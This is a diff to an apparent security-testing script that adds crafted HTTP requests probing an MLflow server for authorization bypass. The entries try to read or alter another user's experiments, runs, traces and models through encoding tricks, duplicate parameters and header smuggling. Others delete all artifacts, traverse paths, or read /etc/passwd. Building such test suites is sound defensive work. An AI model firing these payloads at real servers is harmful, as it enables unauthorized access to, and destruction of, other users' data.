@@ -6,6 +6,7 @@ import json
 TARGETS = {
     "plain": "/api/2.0/mlflow/experiments/get?experiment_id={victim}",
     "slash encoded": "/api/2.0/mlflow%2Fexperiments%2Fget?experiment_id={victim}",
+    "slash encoded twice": "/api/2.0/mlflow%252Fexperiments%252Fget?experiment_id={victim}",
     "letter encoded": "/api/2.0/mlflow/%65xperiments/get?experiment_id={victim}",
     "root route with a letter encoded": "/%67et-artifact?run_id={run}&path=a.txt",
     "doubly encoded letter": "/api/2.0/mlflow/%2565xperiments/get?experiment_id={victim}",
@@ -36,12 +37,22 @@ TARGETS = {
     "id with an underscore": "/api/2.0/mlflow/experiments/get?experiment_id=0_{victim}",
     "id in Arabic digits": "/api/2.0/mlflow/experiments/get?experiment_id={arabic}",
     "id with a newline": "/api/2.0/mlflow/experiments/get?experiment_id={victim}%0A",
+    "two ids, the last of another": "/api/2.0/mlflow/experiments/get?experiment_id={own}&experiment_id={victim}",
+    "two ids, the first of another": "/api/2.0/mlflow/experiments/get?experiment_id={victim}&experiment_id={own}",
     "empty id": "/api/2.0/mlflow/experiments/get?experiment_id=",
     "encoded key": "/api/2.0/mlflow/experiments/get?experiment%5Fid={victim}",
     "semicolon in the query": "/api/2.0/mlflow/experiments/get?x=1;experiment_id={victim}",
     "key with brackets": "/api/2.0/mlflow/experiments/get?experiment_id[]={victim}",
     "camelCase key": "/api/2.0/mlflow/experiments/get?experimentId={victim}",
     "run by the old name": "/api/2.0/mlflow/runs/get?run_uuid={run}",
+    "run by both names": "/api/2.0/mlflow/runs/get?run_uuid={run}&run_id={own_run}",
+    "run by both names, the other way round": "/api/2.0/mlflow/runs/get?run_id={run}&run_uuid={own_run}",
+    "run with a space": "/api/2.0/mlflow/runs/get?run_id={run}%20",
+    "model in upper case": "/api/2.0/mlflow/registered-models/get?name={MODEL}",
+    "model with a space": "/api/2.0/mlflow/registered-models/get?name={model}%20",
+    "trace of the victim": "/api/3.0/mlflow/traces/{trace}",
+    "trace without its prefix": "/api/3.0/mlflow/traces/get?trace_id={TRACE}",
+    "logged model of the victim": "/api/2.0/mlflow/logged-models/{logged_model}",
     "run in upper case": "/api/2.0/mlflow/runs/get?run_id={RUN}",
     "artifact": "/api/2.0/mlflow-artifacts/artifacts/{victim}/{run}/artifacts/a.txt",
     "artifact behind a dot": "/api/2.0/mlflow-artifacts/artifacts/./{victim}/{run}/artifacts/a.txt",
@@ -49,6 +60,8 @@ TARGETS = {
     "artifact behind a dot encoded twice": "/api/2.0/mlflow-artifacts/artifacts/%252e/{victim}/{run}/artifacts/a.txt",
     "artifact encoded three times": "/api/2.0/mlflow-artifacts/artifacts/%25252e%25252f{victim}/{run}/artifacts/a.txt",
     "artifact with an encoded digit": "/api/2.0/mlflow-artifacts/artifacts/%3{victim}/{run}/artifacts/a.txt",
+    "artifact with a digit encoded twice": "/api/2.0/mlflow-artifacts/artifacts/%253{victim}/{run}/artifacts/a.txt",
+    "artifact with NUL": "/api/2.0/mlflow-artifacts/artifacts/{own}/{own_run}/artifacts/a%00.txt",
     "artifact with an empty query": "/api/2.0/mlflow-artifacts/artifacts/{victim}/{run}/artifacts/a.txt%3F",
     "artifact with an empty fragment": "/api/2.0/mlflow-artifacts/artifacts/{victim}/{run}/artifacts/a.txt%23",
     "artifact behind two slashes": "/api/2.0/mlflow-artifacts/artifacts//{victim}/{run}/artifacts/a.txt",
@@ -76,6 +89,7 @@ TARGETS = {
     "get-artifact by file scheme": "/get-artifact?run_id={own_run}&path=file:///etc/passwd",
     "get-artifact by absolute path": "/get-artifact?run_id={own_run}&path=/etc/passwd",
     "get-artifact with NUL": "/get-artifact?run_id={own_run}&path=a%00.txt",
+    "asterisk": "*",
     "absolute form": "http://127.0.0.1/api/2.0/mlflow/experiments/get?experiment_id={victim}",
     "get-artifact of the victim": "/get-artifact?run_id={run}&path=a.txt",
     "get-artifact by the old name": "/get-artifact?run_uuid={run}&path=a.txt",
@@ -92,6 +106,7 @@ TARGETS = {
 }
 
 JSON = "Content-Type: application/json"
+PROTOBUF = "Content-Type: application/x-protobuf"
 
 
 def body(**fields):
@@ -132,6 +147,8 @@ BODIES = {
         "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id=" {victim}", new_name="x"), JSON),
     "text/plain": (
         "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), "Content-Type: text/plain"),
+    "JSON of another type": (
+        "POST", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), "Content-Type: application/vnd.x+json"),
     "form": (
         "POST", "/api/2.0/mlflow/experiments/update", "experiment_id={victim}&new_name=x", "Content-Type: application/x-www-form-urlencoded"),
     "no content type": (
@@ -153,9 +170,56 @@ BODIES = {
     "model called star": (
         "POST", "/api/2.0/mlflow/registered-models/create", body(name="*"), JSON),
     "model of another in a metric": (
-        "POST", "/api/2.0/mlflow/runs/log-metric", body(run_id="{own_run}", key="k", value=1, timestamp=1, model_id="m-" + "0" * 32), JSON),
+        "POST", "/api/2.0/mlflow/runs/log-metric", body(run_id="{own_run}", key="k", value=1, timestamp=1, model_id="{logged_model}"), JSON),
+    "model of another in a batch": (
+        "POST", "/api/2.0/mlflow/runs/log-batch", body(run_id="{own_run}", metrics=[{"key": "k", "value": 1, "timestamp": 1, "step": 0}, {"key": "l", "value": 1, "timestamp": 1, "step": 0, "model_id": "{logged_model}"}]), JSON),
+    "model of another as an output": (
+        "POST", "/api/2.0/mlflow/runs/outputs", body(run_id="{own_run}", models=[{"model_id": "{logged_model}", "step": 0}]), JSON),
     "run of another as a source": (
-        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own}", source="runs:/{run}/model", run_id="{run}"), JSON),
+        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="runs:/{run}/model", run_id="{run}"), JSON),
+    "run of another as a source, one's own as the run": (
+        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="runs:/{run}/model", run_id="{own_run}"), JSON),
+    "logged model of another as a source": (
+        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="models:/{logged_model}"), JSON),
+    "logged model of another beside one's own source": (
+        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="runs:/{own_run}/model", run_id="{own_run}", model_id="{logged_model}"), JSON),
+    "artifacts of another as a source": (
+        "POST", "/api/2.0/mlflow/model-versions/create", body(name="{own_model}", source="mlflow-artifacts:/{victim}/{run}/artifacts"), JSON),
+    "logged model made of another's run": (
+        "POST", "/api/2.0/mlflow/logged-models", body(experiment_id="{own}", name="x", source_run_id="{run}"), JSON),
+    "upload to another's logged model": (
+        "POST", "/api/2.0/mlflow/artifacts/presigned-upload-url", body(model_id="{logged_model}", path="x"), JSON),
+    "issue of another's run": (
+        "POST", "/api/3.0/mlflow/issues", body(experiment_id="{own}", name="x", description="x", source_run_id="{run}"), JSON),
+    "trace taken over": (
+        "POST", "/api/3.0/mlflow/traces", body(trace={"trace_info": {"trace_id": "{trace}", "state": "OK", "request_time": "2026-01-02T03:04:05Z", "trace_location": {"type": "MLFLOW_EXPERIMENT", "mlflow_experiment": {"experiment_id": "{own}"}}}}), JSON),
+    "span in another's trace": (
+        "POST", "/v1/traces", body(resourceSpans=[{"scopeSpans": [{"spans": [{"traceId": "{TRACE}", "spanId": "0123456789abcdef", "name": "x"}]}]}]), JSON + "\r\nX-Mlflow-Experiment-Id: {own}"),
+    "assessment of another's trace": (
+        "POST", "/api/3.0/mlflow/traces/{trace}/assessments", body(assessment={"assessment_name": "x", "feedback": {"value": 1}}), JSON),
+    "trace of another in one's own run": (
+        "POST", "/api/2.0/mlflow/traces/link-to-run", body(run_id="{own_run}", trace_ids=["{trace}"]), JSON),
+    "two experiments of one export": (
+        "POST", "/v1/traces", "", PROTOBUF + "\r\nX-Mlflow-Experiment-Id: {own}\r\nX-Mlflow-Experiment-Id: {victim}"),
+    "two experiments of one export, the other way round": (
+        "POST", "/v1/traces", "", PROTOBUF + "\r\nX-Mlflow-Experiment-Id: {victim}\r\nX-Mlflow-Experiment-Id: {own}"),
+    "two experiments of one export in one header": (
+        "POST", "/v1/traces", "", PROTOBUF + "\r\nX-Mlflow-Experiment-Id: {own}, {victim}"),
+    "two experiments of one export, one by underscores": (
+        "POST", "/v1/traces", "", PROTOBUF + "\r\nX-Mlflow-Experiment-Id: {own}\r\nX_Mlflow_Experiment_Id: {victim}"),
+    "deletion of all artifacts": ("DELETE", "/api/2.0/mlflow-artifacts/artifacts/", "", "X-None: 1"),
+    "deletion of an experiment's artifacts": (
+        "DELETE", "/api/2.0/mlflow-artifacts/artifacts/{victim}", "", "X-None: 1"),
+    "deletion of what is above": (
+        "DELETE", "/api/2.0/mlflow-artifacts/artifacts/{own}/%252e%252e", "", "X-None: 1"),
+    "deletion of a run's artifacts by the run alone": (
+        "DELETE", "/api/2.0/mlflow-artifacts/artifacts/{run}", "", "X-None: 1"),
+    "deletion of a workspace's artifacts": (
+        "DELETE", "/api/2.0/mlflow-artifacts/artifacts/workspaces/default", "", "X-None: 1"),
+    "preflight with a body": (
+        "OPTIONS", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), JSON + "\r\nOrigin: https://attacker.example\r\nAccess-Control-Request-Method: POST"),
+    "POST by another name": (
+        "OPTIONS", "/api/2.0/mlflow/experiments/update", body(experiment_id="{victim}", new_name="x"), JSON + "\r\nX-HTTP-Method-Override: POST"),
     "HEAD of an artifact": ("HEAD", "/get-artifact?run_id={run}&path=a.txt", "", "X-None: 1"),
     "run of another by a second name": (
         "POST", "/api/2.0/mlflow/runs/set-tag", body(run_uuid="{own_run}", runId="{run}", key="k", value="v"), JSON),
